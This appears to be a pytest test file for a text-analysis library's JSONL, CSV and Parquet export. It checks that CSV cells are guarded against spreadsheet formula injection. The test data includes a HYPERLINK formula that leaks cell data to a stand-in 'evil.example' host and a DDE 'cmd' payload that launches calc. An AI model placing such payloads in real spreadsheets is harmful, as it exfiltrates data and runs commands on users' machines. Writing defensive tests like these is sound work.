"""Exports read back: JSON Lines records and CSV rows carry exact offsets and texts, safely."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from helpers import SEED, analyze_with
from scrutiny.analyzers.entities import EntityAnalyzer
from scrutiny.errors import ScrutinyError
from scrutiny.export import (
    CSV_COLUMNS,
    analysis_from_record,
    export,
    export_parquet,
    export_record,
    guard_cell,
    read_jsonl,
    unguard_cell,
)
from scrutiny.model import Analysis, Annotation, Document, Span
from scrutiny.store.sqlite import SQLiteStore

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click") is what the attacker wrote.\n'
    "+1 555 0100, -2 degrees, @SUM(A1:A9), \ttabbed, 'quoted' and \u2028 a line separator."
)


def _analysis_at(text: str, *needles: str, title: str | None = None) -> Analysis:
    """An analysis with one annotation on the first occurrence of each needle."""
    doc = Document.from_text(text, title=title)
    anns = []
    for i, needle in enumerate(needles, start=1):
        at = doc.text.index(needle)
        span = Span(at, at + len(needle))
        attrs = {"value": needle, "n": i}
        anns.append(Annotation(f"x{i}", "signal", span, "=cmd|' /C calc'!A0", "t", "1", 0.5, attrs))
    return Analysis(doc, tuple(anns), {"signal": {"analyzer": "t", "version": "1"}})


@pytest.fixture(scope="module")
def seed_analysis() -> Analysis:
    return analyze_with(SEED.read_text(encoding="utf-8"), EntityAnalyzer())


def _csv(analyses: list[Analysis]) -> tuple[int, list[dict[str, str]], str]:
    out = io.StringIO(newline="")
    n = export(analyses, "csv", out)
    raw = out.getvalue()
    return n, list(csv.DictReader(io.StringIO(raw, newline=""))), raw


def test_jsonl_round_trip(seed_analysis: Analysis) -> None:
    hostile = _analysis_at(HOSTILE, "=HYPERLINK", title="Line\u2029break")
    out = io.StringIO()
    assert export([seed_analysis, hostile], "jsonl", out) == 2
    text = out.getvalue()
    lines = text.splitlines()  # splits at U+2028 too: records must not contain one raw
    assert len(lines) == 2 and text.endswith("\n")
    records = [json.loads(line) for line in lines]
    assert records[0] == export_record(seed_analysis)
    assert records[1] == export_record(hostile)
    assert analysis_from_record(records[0]) == seed_analysis
    assert analysis_from_record(records[1]) == hostile
    assert records[1]["document"]["text"] == hostile.document.text
    assert "\u2028" not in text and "\\u2028" in text
    assert "Bishkek" in lines[0]  # not ASCII-escaped: ensure_ascii=False


def test_csv_rows_give_exact_offsets_and_texts(seed_analysis: Analysis) -> None:
    n, rows, _ = _csv([seed_analysis])
    assert n == 1
    assert len(rows) == len(seed_analysis.annotations) > 10
    assert tuple(rows[0]) == CSV_COLUMNS
    text = seed_analysis.document.text
    for row, ann in zip(rows, seed_analysis.annotations, strict=True):
        start, end = int(row["start"]), int(row["end"])
        assert (start, end) == (ann.span.start, ann.span.end)
        assert unguard_cell(row["text"]) == text[start:end]
        assert row["doc_id"] == seed_analysis.document.id
        assert (row["layer"], row["id"], row["label"]) == (ann.layer, ann.id, ann.label)
        assert float(row["confidence"]) == ann.confidence
        assert json.loads(row["attrs"]) == dict(ann.attrs)


def test_csv_formula_injection_is_defused() -> None:
    needles = ("=HYPERLINK", "+1 555", "-2 degrees", "@SUM", "\ttabbed", "'quoted'", "attacker")
    a = _analysis_at(HOSTILE, *needles)
    _, rows, raw = _csv([a])
    cells = {row["id"]: row for row in rows}
    for i, needle in enumerate(needles, start=1):
        cell = cells[f"x{i}"]["text"]
        if needle[0] in "=+-@\t'":
            assert cell == "'" + needle
        else:
            assert cell == needle
        assert unguard_cell(cell) == needle
        assert cells[f"x{i}"]["label"] == "'=cmd|' /C calc'!A0"
    # No line of the file starts a cell with a formula character.
    for line in raw.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_guard_cell_is_reversible() -> None:
    for value in ("", "plain", "=1+1", "'", "''x", "-", "@", "\r\nx", "'=x"):
        guarded = guard_cell(value)
        assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert unguard_cell(guarded) == value


def test_csv_keeps_newlines_and_unicode_inside_cells() -> None:
    text = 'First line.\nSecond line with ‘quotes’, "doubles", commas, 🙂 and مرحبا.'
    a = _analysis_at(text, "line.\nSecond", "🙂 and مرحبا")
    _, rows, _ = _csv([a])
    assert [r["text"] for r in rows] == ["line.\nSecond", "🙂 and مرحبا"]


def test_empty_and_unknown(tmp_path: Path) -> None:
    out = io.StringIO()
    assert export([], "csv", out) == 0
    assert out.getvalue().strip() == ",".join(CSV_COLUMNS)
    assert export([], "jsonl", io.StringIO()) == 0
    with pytest.raises(ValueError, match="unknown export format"):
        export([], "xml", io.StringIO())  # type: ignore[arg-type]


def test_export_from_store_file(tmp_path: Path, seed_analysis: Analysis) -> None:
    other = _analysis_at(HOSTILE, "=HYPERLINK", "attacker")
    with SQLiteStore.open(tmp_path / "s.db") as store:
        store.add(seed_analysis)
        store.add(other)
        target = tmp_path / "all.csv"
        with target.open("w", encoding="utf-8", newline="") as fh:
            assert export(store.iter_analyses(), "csv", fh) == 2
        jsonl = tmp_path / "all.jsonl"
        with jsonl.open("w", encoding="utf-8") as fh:
            assert export(store.iter_analyses(), "jsonl", fh) == 2
    with target.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(seed_analysis.annotations) + 2
    assert {r["doc_id"] for r in rows} == {seed_analysis.document.id, other.document.id}
    records = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert [r["document"]["id"] for r in records] == [
        seed_analysis.document.id,
        other.document.id,
    ]
    assert records[0] == export_record(seed_analysis)


def test_export_then_import_into_a_fresh_store_is_identical(
    tmp_path: Path, seed_analysis: Analysis
) -> None:
    hostile = _analysis_at(HOSTILE, "=HYPERLINK", "@SUM", title="hostile")
    with SQLiteStore.open(tmp_path / "one.db") as one:
        one.add(seed_analysis)
        one.add(hostile)
        out = io.StringIO()
        export(one.iter_analyses(), "jsonl", out)
        originals = list(one.iter_analyses())
    with SQLiteStore.open(tmp_path / "two.db") as two:
        for item in read_jsonl(out.getvalue().splitlines(), "export.jsonl"):
            assert not isinstance(item, ScrutinyError), item
            assert two.add(item)
        assert list(two.iter_analyses()) == originals
        assert two.corpus_entities("Atambayev")  # the corpus layer is rebuilt on import


def test_import_refuses_altered_or_foreign_records(seed_analysis: Analysis) -> None:
    good = export_record(seed_analysis)
    altered = json.loads(json.dumps(good))
    altered["document"]["text"] = altered["document"]["text"].replace("Bishkek", "Bishkec")
    view_only = seed_analysis.to_dict()  # what scrutiny analyze prints: no annotations
    out_of_range = json.loads(json.dumps(good))
    out_of_range["annotations"][0]["end"] = 10**9
    lines = [
        json.dumps(good),
        json.dumps(altered),
        json.dumps(view_only),
        "{not json",
        "",
        json.dumps(out_of_range),
        "[1, 2]",
    ]
    results = list(read_jsonl(lines, "in.jsonl"))
    assert results[0] == seed_analysis
    errors = [str(r) for r in results[1:]]
    assert all(isinstance(r, ScrutinyError) for r in results[1:]) and len(errors) == 5
    assert errors[0].startswith("in.jsonl:2:") and "does not match its text" in errors[0]
    assert errors[1].startswith("in.jsonl:3:") and "no annotations" in errors[1]
    assert errors[2].startswith("in.jsonl:4:")
    assert errors[3].startswith("in.jsonl:6:") and errors[4].startswith("in.jsonl:7:")


def test_parquet_export_has_one_table_per_layer(tmp_path: Path, seed_analysis: Analysis) -> None:
    import pyarrow.parquet as pq

    hostile = _analysis_at(HOSTILE, "=HYPERLINK")
    assert export_parquet([seed_analysis, hostile], tmp_path / "pq") == 2
    files = {p.stem for p in (tmp_path / "pq").glob("*.parquet")}
    assert {"documents", "entity", "mention", "sentence", "signal"} <= files
    docs = pq.read_table(tmp_path / "pq" / "documents.parquet").to_pylist()
    texts = {d["id"]: d["text"] for d in docs}
    assert set(texts) == {seed_analysis.document.id, hostile.document.id}
    for row in pq.read_table(tmp_path / "pq" / "mention.parquet").to_pylist():
        assert texts[row["doc_id"]][row["start"] : row["end"]] == row["text"]
        assert isinstance(json.loads(row["attrs"]), dict)
    signal = pq.read_table(tmp_path / "pq" / "signal.parquet").to_pylist()
    assert signal[0]["label"] == "=cmd|' /C calc'!A0"  # data, not guarded: Parquet has no formulas


def test_csv_by_layer_has_one_guarded_file_per_layer(
    tmp_path: Path, seed_analysis: Analysis
) -> None:
    from scrutiny.export import export_csv_layers

    hostile = _analysis_at(HOSTILE, "=HYPERLINK")
    assert export_csv_layers([seed_analysis, hostile], tmp_path / "csv") == 2
    files = {p.stem for p in (tmp_path / "csv").glob("*.csv")}
    assert {"documents", "entity", "mention", "sentence", "signal"} <= files
    with (tmp_path / "csv" / "documents.csv").open(newline="", encoding="utf-8") as fh:
        texts = {r["id"]: unguard_cell(r["text"]) for r in csv.DictReader(fh)}
    with (tmp_path / "csv" / "mention.csv").open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            assert texts[row["doc_id"]][int(row["start"]) : int(row["end"])] == unguard_cell(
                row["text"]
            )
    with (tmp_path / "csv" / "signal.csv").open(newline="", encoding="utf-8") as fh:
        (signal,) = list(csv.DictReader(fh))
    assert signal["text"].startswith("'=") and unguard_cell(signal["text"]) == "=HYPERLINK"
